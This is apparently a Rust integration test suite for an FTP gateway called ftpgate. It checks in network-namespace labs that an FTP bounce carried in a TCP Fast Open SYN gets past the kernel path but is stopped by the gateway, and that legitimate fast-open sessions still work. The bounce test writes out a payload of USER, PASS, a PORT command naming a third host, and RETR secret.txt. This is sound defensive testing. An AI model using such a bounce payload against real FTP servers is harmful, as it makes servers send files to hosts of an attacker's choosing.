//! TCP Fast Open on a control connection (issue 9, class 5) with the real Linux stack, through
//! the kernel and through ftpgate: the inside client's first bytes travel in its SYN
//! (`scripts/ftp-raw.py --fastopen`; the client namespace's `net.ipv4.tcp_fastopen` is 5,
//! data in the SYN without a cookie), and pyftpdlib's namespace accepts them (0x603: without
//! a cookie, on any listener).
//!
//! - A bounce in the SYN: USER, PASS, a PORT naming the third host and RETR, all in the SYN's
//!   payload. The kernel's helper reads no SYN (nor refuses bounces) and pyftpdlib sends the
//!   file to the third host; through ftpgate the PORT never reaches pyftpdlib.
//! - A legitimate TFO client: USER in the SYN, then the rest of a session. It must work both
//!   ways (a gateway that parks the later segments as out of order hangs it).
//!
//! Like tests/lab.rs, the tests need root and skip (printing why; failing under `CI=true`)
//! without it or without namespaces.

#[path = "lab/bounce.rs"]
mod bounce;
#[path = "lab/env.rs"]
mod env;
#[path = "lab/ftp.rs"]
mod ftp;
#[path = "lab/net.rs"]
mod net;
use ftpgate_testkit::skip;
#[path = "lab/trust.rs"]
mod trust;

use env::{lab_env_or_skip, LabEnv};
use ftp::Server;
use net::{lab_or_skip, FtpgateOpts, Lab, Layout, Mode, Role};
use trust::{p1p2, raw_session, Listeners};

/// The third host's port the bounce in the SYN names.
const THIRD_PORT: u16 = 40510;

/// A client-inside lab whose client sends data in its SYNs and whose server accepts it.
fn fastopen_lab(test: &str, mode: Mode) -> Option<(&'static LabEnv, Lab, tempfile::TempDir)> {
    let env = lab_env_or_skip(test)?;
    let work = tempfile::tempdir().expect("temp dir");
    let opts = FtpgateOpts::ftpgate(work.path().join("transfers.jsonl"));
    let opts = (mode == Mode::Ftpgate).then_some(&opts);
    let lab = lab_or_skip(test, mode, Layout::ClientInside, opts)?;
    for (role, value) in [(Role::Client, "5"), (Role::Server, "1539")] {
        let out = lab.run(
            role,
            "sysctl",
            &["-qw", &format!("net.ipv4.tcp_fastopen={value}")],
        );
        assert!(out.status.success(), "sysctl in {role:?}: {out:?}");
    }
    Some((env, lab, work))
}

/// How many connections with data in the SYN the server's stack accepted
/// (TcpExtTCPFastOpenPassive).
fn fastopen_accepted(lab: &Lab) -> u64 {
    let out = lab.run(Role::Server, "nstat", &["-az", "TcpExtTCPFastOpenPassive"]);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .find_map(|line| {
            let mut words = line.split_whitespace();
            (words.next() == Some("TcpExtTCPFastOpenPassive"))
                .then(|| words.next().and_then(|n| n.parse().ok()))
                .flatten()
        })
        .unwrap_or(0)
}

/// The bounce in the SYN against pyftpdlib (obeying foreign addresses); the dialogue, the
/// server's transcript, and what reached the third host.
fn bounce_in_the_syn(
    env: &LabEnv,
    lab: &Lab,
    work: &std::path::Path,
) -> (String, String, trust::Reached) {
    let server = Server::start_with(env, lab, Layout::ClientInside, &["--permit-foreign"]);
    std::fs::write(server.root().join("secret.txt"), b"bounced from a SYN").unwrap();
    let listeners = Listeners::start(env, lab, Role::Third, "198.51.100.3", &[THIRD_PORT], work);
    let syn = format!(
        "send:USER anonymous\\r\\nPASS x\\r\\nPORT 198,51,100,3,{}\\r\\nRETR secret.txt\\r\\n",
        p1p2(THIRD_PORT)
    );
    let steps: Vec<String> = [
        syn.as_str(),
        "reply:220",
        "reply:230",
        "reply:226",
        "drain:0.3",
    ]
    .map(String::from)
    .to_vec();
    let out = raw_session(
        env,
        lab,
        Role::Client,
        "198.51.100.2:21",
        false,
        true,
        &steps,
    );
    let dialogue = String::from_utf8_lossy(&out.stdout).into_owned();
    (dialogue, server.transcript(), listeners.finish(env, lab))
}

/// Through the kernel, the server accepts the SYN's data, runs the four commands and sends
/// the file to the third host.
#[test]
fn kernel_mode_lets_a_bounce_in_a_fast_open_syn_through() {
    let test = "kernel_mode_lets_a_bounce_in_a_fast_open_syn_through";
    let Some((env, lab, work)) = fastopen_lab(test, Mode::Kernel) else {
        return;
    };
    let (dialogue, transcript, reached) = bounce_in_the_syn(env, &lab, work.path());
    assert_eq!(
        fastopen_accepted(&lab),
        1,
        "the SYN carried no data the server took"
    );
    assert_eq!(reached.len(), 1, "{dialogue}\n{transcript}");
    let (_, peer, bytes) = &reached[0];
    assert!(peer.starts_with("198.51.100.2:"), "peer {peer}");
    assert_eq!(bytes, b"bounced from a SYN");
    let port = format!("<- PORT 198,51,100,3,{}\n", p1p2(THIRD_PORT));
    assert!(transcript.contains(&port), "{transcript}");
}

/// Through ftpgate, the SYN's payload is read like any bytes: the PORT never reaches
/// pyftpdlib and the third host gets nothing.
#[test]
fn ftpgate_mode_refuses_a_bounce_in_a_fast_open_syn() {
    let test = "ftpgate_mode_refuses_a_bounce_in_a_fast_open_syn";
    let Some((env, lab, work)) = fastopen_lab(test, Mode::Ftpgate) else {
        return;
    };
    let (dialogue, transcript, reached) = bounce_in_the_syn(env, &lab, work.path());
    assert!(
        !transcript.contains("<- PORT"),
        "pyftpdlib read the PORT:\n{transcript}\n{dialogue}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    assert!(reached.is_empty(), "the third host got {reached:?}");
}

/// A TFO client's session: USER in the SYN, then PASS, SYST and QUIT, each answered; the
/// dialogue and the server's transcript.
fn legitimate_fast_open_session(env: &LabEnv, lab: &Lab) -> (String, String) {
    let server = Server::start(env, lab, Layout::ClientInside);
    let steps: Vec<String> = [
        "send:USER anonymous\\r\\n",
        "reply:220",
        "reply:331",
        "send:PASS x\\r\\n",
        "reply:230",
        "send:SYST\\r\\n",
        "reply:215",
        "send:QUIT\\r\\n",
        "reply:221",
    ]
    .map(String::from)
    .to_vec();
    let out = raw_session(
        env,
        lab,
        Role::Client,
        "198.51.100.2:21",
        false,
        true,
        &steps,
    );
    let dialogue = String::from_utf8_lossy(&out.stdout).into_owned();
    (dialogue, server.transcript())
}

/// Checks that every step of the legitimate session was answered.
fn check_session(mode: Mode, dialogue: &str, transcript: &str, ftpgate: &str) {
    assert!(
        !dialogue.lines().any(|line| line.starts_with("no ")) && dialogue.contains("< b'221 "),
        "{mode:?}: the TFO client's session did not complete:\n{dialogue}\n{transcript}\n{ftpgate}"
    );
    for command in ["<- USER anonymous", "<- PASS", "<- SYST", "<- QUIT"] {
        assert!(transcript.contains(command), "{mode:?}: {transcript}");
    }
}

#[test]
fn kernel_mode_carries_a_fast_open_client_session() {
    let test = "kernel_mode_carries_a_fast_open_client_session";
    let Some((env, lab, _work)) = fastopen_lab(test, Mode::Kernel) else {
        return;
    };
    let (dialogue, transcript) = legitimate_fast_open_session(env, &lab);
    assert_eq!(
        fastopen_accepted(&lab),
        1,
        "the SYN carried no data the server took"
    );
    check_session(Mode::Kernel, &dialogue, &transcript, "");
}

#[test]
fn ftpgate_mode_carries_a_fast_open_client_session() {
    let test = "ftpgate_mode_carries_a_fast_open_client_session";
    let Some((env, lab, _work)) = fastopen_lab(test, Mode::Ftpgate) else {
        return;
    };
    let (dialogue, transcript) = legitimate_fast_open_session(env, &lab);
    check_session(Mode::Ftpgate, &dialogue, &transcript, &lab.ftpgate_stderr());
}
